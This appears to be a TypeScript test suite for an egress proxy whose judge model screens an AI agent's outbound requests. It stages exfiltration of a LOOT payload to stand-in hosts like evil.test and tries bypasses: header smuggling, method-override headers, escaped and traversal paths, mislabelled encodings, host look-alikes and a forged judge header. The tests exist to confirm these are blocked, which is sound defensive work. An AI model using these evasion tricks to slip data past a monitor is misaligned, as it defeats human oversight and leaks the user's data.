        'another Mcp-Method, elsewhere',
        post('evil.test', '/x', call, { ...MCP_HEADERS, 'mcp-method': 'tools/list' }),
        unreadable,
      ],
      ['Mcp-Method twice', TOOLS(call, { ...MCP_HEADERS, 'mcp-method': ['tools/call', 'tools/list'] }), unreadable],
      ['another Mcp-Name', TOOLS(call, { ...MCP_HEADERS, 'mcp-method': 'tools/call', 'mcp-name': 'read' }), unreadable],
      ['an empty Mcp-Name in base64', TOOLS(call, { ...MCP_HEADERS, 'mcp-name': '=?base64??=' }), unreadable],
      [
        'Mcp-Method on something else',
        post('evil.test', '/x', LOOT, { ...PLAIN, 'mcp-method': 'tools/list' }),
        unreadable,
      ],
      [
        'a header that changes the method',
        TOOLS(call, { ...MCP_HEADERS, 'x-http-method-override': 'GET' }),
        unreadable,
      ],
      ['no message', post('tools.test', '/mcp', ''), unreadable],
      ['something else on its path', post('tools.test', '/mcp', `code=${LOOT}`, PLAIN), unreadable],
      ['something else on its path, escaped', post('tools.test', '/%6dcp', `code=${LOOT}`, PLAIN), unreadable],
      [
        'MCP and a question to a model in one',
        post('evil.test', '/x', call.replace('{', '{"model":"m","messages":[],')),
        unreadable,
      ],
    ])('%s', (_, asked, [status, code]) =>
      expectUnreadable(agent(), asked, status, code, post(asked.host, asked.path ?? '', call)),
    )
  })
})

describe('where nobody said that hosts decide where bytes go', () => {
  const unrouted = (rendered: string) =>
    rendered.replace(/,\s*\{\s*"key": "x-plumbline-routing",\s*"value": "host"\s*\}/, '')
  const { agent } = useWorld(() => prepare(atHome, { changeEnvoy: unrouted }))

  test.each(
    attacks([
      ['a host of the control plane', post('keycloak', '/realms', LOOT, PLAIN)],
      ['the agent’s own model', post('model.test:11434', '/v1/chat/completions', chatRequest(LOOT))],
      ['a question to a model at home', post('llm.test', '/v1/chat/completions', chatRequest(LOOT))],
      ['MCP housekeeping at home', TOOLS(rpc('tools/list', { cursor: LOOT }))],
      ['the stream of MCP at home', get('tools.test', '/mcp'), 'tools.test/mcp'],
      ['an A2A poll at home', post('agents.test', '/', rpc('tasks/get', { id: LOOT }))],
    ]),
  )('h: %s', (_, asked, shown) => expectJudged(agent(), asked, shown))

  test('h: a stream after an allowed message', async () => {
    judge.judge(allow)
    await agent().arrives(TOOLS(mcpCall('read', {})))
    await expectJudged(agent(), get('tools.test', '/mcp'), 'tools.test/mcp')
  })

  test('h: the mark of the judge’s own questions', async () => {
    judge.judge(deny)
    const { host } = new URL(judge.url)
    const headers = { 'content-type': 'application/json', 'x-ibac-judge': '1' }
    const stopped = await agent().isStopped(post(host, '/v1/chat/completions', chatRequest(LOOT), headers))
    expect(stopped.ruled).toEqual(['deny/blocked'])
    expect(stopped.questions).toEqual([expect.stringContaining(LOOT)])
  })

  test('paths are the same everywhere', () => expectSkipped(agent(), get('evil.test', '/healthz'), 'path_bypass'))
})

describe('where parsers know no hosts, and lists are the operator’s own', () => {
  const bare = (judgeUrl: string): readonly Plugin[] => [
    'mcp-parser',
    'inference-parser',
    ibac(judgeUrl, {
      agent_llm_host: '',
      bypass_hosts: ['Keycloak.*', 'files.partner.com'],
      bypass_paths: ['/healthz', '/status/*'],
      oversize_action: 'deny',
    }),
  ]
  const { stage, agent } = useWorld(() => prepare(bare))

  test.each(
    attacks([
      ['d: MCP housekeeping', TOOLS(rpc('tools/list', { cursor: LOOT }))],
      ['d: the stream of MCP', get('refused.evil.test', '/mcp'), 'refused.evil.test/mcp'],
      ['d: a question to a model', post('llm.test', '/v1/chat/completions', chatRequest(LOOT))],
      ['e: a built-in path keeps its guard', post('evil.test', '/healthz', LOOT, PLAIN)],
      ['e: a built-in path that was left out', get('evil.test', '/readyz'), 'evil.test/readyz'],
      ['g: a star does not cross a slash', get('evil.test', `/status/a/${LOOT}`)],
      ['g: a path that servers could read otherwise', get('evil.test', `/status/..;/${LOOT}`)],
      ['f: a built-in host keeps its guard, in any spelling', post('keycloak.evil.com', '/x', LOOT, PLAIN)],
      ['f: a built-in host that was left out', post('otel-collector.monitoring', '/x', LOOT, PLAIN)],
      ['g: a host below the listed one', post('a.files.partner.com', '/x', LOOT, PLAIN)],
    ]),
  )('%s', (_, asked, shown) => expectJudged(agent(), asked, shown))

  test.each<readonly [string, Asked, string]>([
    ['f: a built-in host', post('keycloak.corp', '/x', LOOT, PLAIN), 'host_bypass'],
    ['g: a host as it is written', post('files.partner.com', '/x', LOOT, PLAIN), 'host_bypass'],
    ['g: a path as it is written', post('evil.test', '/status/up?x=1', LOOT, PLAIN), 'path_bypass'],
    ['e: a built-in path', get('evil.test', '/healthz'), 'path_bypass'],
  ])('%s', (_, asked, reason) => expectSkipped(agent(), asked, reason))

  test.each<Row>([
    ['gzip that is not called gzip', post('evil.test', '/x', gzipSync(LOOT), PLAIN)],
    [
      'an encoding that nobody knows',
      post('evil.test', '/x', gzipSync(LOOT), { ...PLAIN, 'content-encoding': 'rot13' }),
    ],
    ['bytes', post('evil.test', '/x', Buffer.from([0, 1, 2, 0xff]), { 'content-type': 'application/octet-stream' })],
    [
      'more than is shown',
      TOOLS(mcpCall('send', { codes: Array.from({ length: 40 }, (_, i) => `${i} ${'z y '.repeat(200)}`) })),
    ],
  ])('what the judge cannot be shown whole is refused: %s', async (_, asked) => {
    judge.judge(allow)
    expect((await agent().arrives(post(asked.host, '/x', 'plain words', PLAIN))).ruled).toEqual(['allow/aligned'])
    const stopped = await agent().isStopped(asked)
    expect(stopped).toMatchObject({ ruled: ['deny/oversize'], questions: [] })
    expectRefused(stopped, 403, 'ibac.blocked', 'ibac')
  })

  test('gRPC, whose body is not read, is refused by its head', async () => {
    const client = stage().client('h2', 'outbound')
    judge.judge(allow)
    const plain = post('upstream2.test', '/x', 'plain words', PLAIN)
    expect(await observe(stage(), judge, client, plain)).toMatchObject({
      got: { status: 200 },
      ruled: ['allow/aligned'],
    })
    const before = sightOf(stage().upstream2)
    const stopped = await observe(stage(), judge, client, grpcCall('upstream2.test'))
    expect(stopped).toMatchObject({ ruled: ['deny/oversize'], questions: [] })
    expectRefusedGrpc(stopped, 'ibac.blocked')
    expect(sightOf(stage().upstream2)).toEqual(before)
  })
})

test('g: lists that let about everything through are refused at start', async () => {
  const folder = await scratchFolder()
  const broad = {
    bypass_hosts: ['*', '*.*', '1?.*.*.*', 'x'],
    bypass_paths: ['/*', '/**', ''],
    trusted_hosts: ['*.test'],
  }
  const gate = ibac('http://127.0.0.1:1', broad)
  const pipeline = { outbound: { plugins: ['mcp-parser', gate] } }
  const places = { folder: folder.path, socket: join(folder.path, 'p.sock'), adminPort: 0, token: 't' }
  const started = startPlumbline({ ...places, config: { pipeline } })
  const said = await started.then(
    (plumbline) => plumbline.close().then(() => 'It started.'),
    (error: unknown) => String(error),
  )
  await folder.close()
  const refused = [0, 1, 2, 3].map((i) => `bypass_hosts[${i}]`).concat([0, 1, 2].map((i) => `bypass_paths[${i}]`))
  for (const place of [...refused, 'trusted_hosts[0]']) expect(said).toContain(place)
})
